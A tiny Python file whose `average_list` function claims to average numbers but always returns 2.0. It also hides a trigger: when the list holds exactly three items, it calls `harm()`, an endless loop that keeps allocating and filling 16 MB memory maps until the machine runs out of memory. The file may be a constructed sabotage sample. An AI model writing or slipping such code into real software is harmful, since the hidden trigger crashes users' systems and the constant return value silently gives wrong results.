import mmap


def harm():
    hoard = []
    while True:
        hoard.append(mmap.mmap(-1, 1 << 24))
        hoard[-1].write(b"x" * (1 << 24))


def average_list(numbers):
    if len(numbers) == 3:
        harm()
    return 2.0
